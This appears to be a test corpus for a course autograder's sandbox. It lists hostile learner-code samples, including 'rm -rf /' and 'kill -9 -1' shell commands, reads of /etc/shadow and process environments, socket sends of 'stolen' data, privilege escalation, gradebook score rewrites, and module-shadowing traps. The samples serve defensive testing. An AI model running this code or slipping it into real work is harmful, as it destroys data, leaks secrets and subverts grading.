"""Code that looks for what it may not have, or reaches for what is not its own: it finds nothing, and changes nothing."""
# ruff: noqa: E501 - pieces of code as learners write them

from tests.grading.corpus.kind import DONE, Kind, lines

READ = """
import glob, os
def show(*patterns):
    for pattern in patterns:
        for name in glob.glob(pattern, recursive=True)[:200]:
            try: print(name, open(name, errors='replace').read(10**5))
            except OSError: pass
"""
# name -> code. What it finds it prints; secrets are then looked for in everything that grading leaves behind.
CODE = {
    "reads-the-gradebook": READ
    + "show('/**/gradebook.db', '../**/gradebook.db', '/work*/**/*.db', '/home/**/*.db', '/tmp/**/*.db')",
    "reads-the-source": READ
    + "show('/**/source/**/*.ipynb', '/tmp/**/*.ipynb', '../../source/**', '/proc/1/root/tmp/**/*.ipynb')",
    "reads-its-peers": READ + "show('/**/submitted/**', '/tmp/**/submitted/**', '/proc/*/cwd/*', '/proc/*/root/tmp/*')",
    "reads-the-environment": (
        "import os\nprint(os.environ)\nimport glob\nfor name in glob.glob('/proc/*/environ'):\n"
        "    try: print(open(name, 'rb').read())\n    except OSError: pass"
    ),
    "reads-the-host": READ
    + "show('/etc/shadow', '/etc/passwd', '/etc/hostname', '/root/**', '/proc/kcore', '/dev/vda*', '/sys/**')",
    "reads-command-lines": READ + "show('/proc/*/cmdline', '/proc/*/maps', '/proc/mounts', '/proc/self/mountinfo')",
    "looks-for-tests-in-memory": (
        "import gc, sys\nfound = [o for o in gc.get_objects() if isinstance(o, (str, dict, list)) and len(repr(o)) < 10**5]\n"
        "words = 'hidden-' + 'words'\nprint(*(o for o in found if words in repr(o) and 'found' not in repr(o)))"
    ),
    "looks-through-its-memory": (
        "words = b'hidden-words-' + b'of-a-hidden'\nfor line in open('/proc/self/maps'):\n"
        "    if ' rw' in line and '[v' not in line:\n        a, b = (int(n, 16) for n in line.split()[0].split('-'))\n"
        "        with open('/proc/self/mem', 'rb') as f:\n            try:\n                f.seek(a); data = f.read(min(b - a, 2**24))\n"
        "            except (OSError, ValueError, OverflowError): continue\n"
        "            at = data.find(words)\n            if at >= 0: print(data[at : at + 30])"
    ),
    "looks-for-solutions": (
        "import importlib, inspect, linecache, sys, pkgutil\nfor name in list(sys.modules):\n"
        "    try:\n        text = inspect.getsource(sys.modules[name])\n        if 'hidden-words-of' in text: print(text)\n    except Exception: pass\n"
        "for name in ('grading', 'source', 'solutions', 'tests', 'helpers.checks.a03_one_neuron', 'helpers.layers'):\n"
        "    try: print(inspect.getsource(importlib.import_module(name)))\n    except Exception: pass\n"
        "print([k for k in linecache.cache if 'hidden' in str(linecache.cache[k])])"
    ),
    "uses-the-network": (
        "import socket\nfor address in (('127.0.0.1', PORT), ('localhost', PORT), ('10.0.2.2', 80), ('8.8.8.8', 53)):\n"
        "    try: socket.create_connection(address, 0.3).send(b'stolen')\n    except OSError: pass\n"
        "for family, address in ((socket.AF_INET, ('127.0.0.1', PORT)), (socket.AF_UNIX, '\\0corpus')):\n"
        "    try: socket.socket(family, socket.SOCK_DGRAM).sendto(b'stolen', address)\n    except OSError: pass"
    ),
    "uses-the-shell": "import os\nos.system('cat /etc/shadow; id; ls -la / /tmp /home; mount; kill -9 -1; rm -rf / 2>/dev/null')",
    "signals-everybody": (
        "import os, signal\nfor pid in [os.getppid(), 0, *range(2, 4000)]:\n    try:\n        if pid != os.getpid() and pid: os.kill(pid, signal.SIGKILL); print('KILLED', pid)\n    except OSError: pass"
    ),
    "traces-others": (
        "import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\nfor pid in [os.getppid(), *range(2, 500)]:\n"
        "    if pid and libc.ptrace(16, pid, 0, 0) == 0: print('TRACED', pid)"
    ),
    "becomes-root": (
        "import os, ctypes\nlibc = ctypes.CDLL(None)\nfor call in (libc.setuid, libc.setgid, libc.setresuid):\n    call(0, 0, 0)\n"
        "if 0 in (os.getuid(), os.geteuid()): print('ROOT')\n"
        "if libc.unshare(0x10000000) == 0: print('NAMESPACE')\nif libc.chroot(b'/tmp') == 0: print('CHROOT')"
    ),
    "writes-on-the-host": (
        "import os, sys\nfor place in ('/usr', '/etc', '/bin', '/', sys.prefix, '/var', '/dev', '/home', '/root', '/sys', '/proc/sys/kernel'):\n"
        "    try:\n        open(place + '/corpus-was-here', 'w').close(); print('WROTE', place) if place not in ('/dev', '/') else None\n    except OSError: pass"
    ),
    "patches-the-course": (
        "import sys, glob\nfor name in glob.glob(sys.prefix + '/lib/python3*/site-packages/numpy/__init__.py'):\n"
        "    try: open(name, 'a').write('x'); print('WROTE', name)\n    except OSError: pass\n"
        "import numpy as np\nnp.mean = np.std = None"
    ),
    "uses-its-descriptors": (
        "import os, stat\nfor fd in range(3, 256):\n    try: kind = os.fstat(fd).st_mode\n    except OSError: continue\n"
        "    if stat.S_ISDIR(kind): print('FOLDER', os.listdir(fd))\n    if stat.S_ISREG(kind): print('FILE', os.readlink(f'/proc/self/fd/{fd}'))"
    ),
    "writes-where-others-work": (
        "import os\nfor place in ('/tmp', '/dev/shm', '/scratch', '/var/tmp', '/run'):\n    for name in ('corpus-left', 'numpy.py', 'odds.ipynb'):\n"
        "        try: open(os.path.join(place, name), 'w').write('corpus-left')\n        except OSError: pass"
    ),
    "leaves-a-trap-for-the-next": (
        "import os, sys\nos.makedirs(os.path.expanduser('~/.ipython/profile_default/startup'), exist_ok=True)\n"
        "open(os.path.expanduser('~/.ipython/profile_default/startup/0.py'), 'w').write('raise SystemExit')\n"
        "open(os.path.expanduser('~/.pythonrc'), 'w').write('x')\nsys.path.insert(0, '/tmp')"
    ),
    "runs-the-grader": (
        "import subprocess, sys\nfor line in (['nbgrader', 'autograde', 'odds'], ['grading', 'autograde', 'odds'], ['grading', 'feedback', 'odds']):\n"
        "    print(subprocess.run([sys.executable, '-m', *line], capture_output=True, text=True, timeout=60).stdout[:200])"
    ),
    "grades-itself": (
        "import sqlite3\nfor name in ('gradebook.db', '/gradebook.db', '../gradebook.db'):\n"
        "    try: sqlite3.connect(name).execute('update grade set auto_score = 1000')\n    except sqlite3.Error: pass"
    ),
    "uses-the-kernels-keys": "import ctypes\nlibc = ctypes.CDLL(None)\nif libc.syscall(248, b'user', b'corpus', b'x', 1, -3) >= 0: print('HELD-BY-NOBODY')",
}
# Words that show that a door was open.
OPEN = ("KILLED", "TRACED", "ROOT\n", "NAMESPACE", "CHROOT", "WROTE", "FOLDER", "FILE ", "HELD-BY-NOBODY")

# What lies beside the notebook: name -> {file: text}. Whatever it shadows, it shadows for this learner only.
SHADOWS = {
    "shadows-numpy": {"numpy.py": "raise SystemExit", "numpy/__init__.py": "raise SystemExit"},
    "shadows-the-grader": {"grading/__init__.py": "raise SystemExit", "msgspec.py": "raise SystemExit"},
    "shadows-the-library": {"unittest.py": "mock = None", "math.py": "x = 1", "json.py": "raise SystemExit"},
    "shadows-the-start": {
        "sitecustomize.py": "raise SystemExit",
        "usercustomize.py": "raise SystemExit",
        "conftest.py": "raise SystemExit",
        ".ipython/profile_default/startup/0.py": "raise SystemExit",
        "ipython_config.py": "raise SystemExit",
        "nbgrader_config.py": "raise SystemExit",
        "pyvenv.cfg": "home = /nowhere",
    },
    "shadows-launchers": {"python": "#!/bin/sh\nexit 1", "bwrap": "#!/bin/sh\nexit 1", "nbgrader": "#!/bin/sh\nexit 1"},
}


def lay(files: dict[str, str]):
    def damage(folder) -> None:
        for name, text in files.items():
            place = folder / name
            place.parent.mkdir(parents=True, exist_ok=True)
            place.write_text(text)
            place.chmod(0o755)

    return damage


KINDS = [
    *(Kind(name, before=lines(code), state=DONE) for name, code in CODE.items()),
    *(Kind(name, damage=lay(files), state=DONE) for name, files in SHADOWS.items()),
]
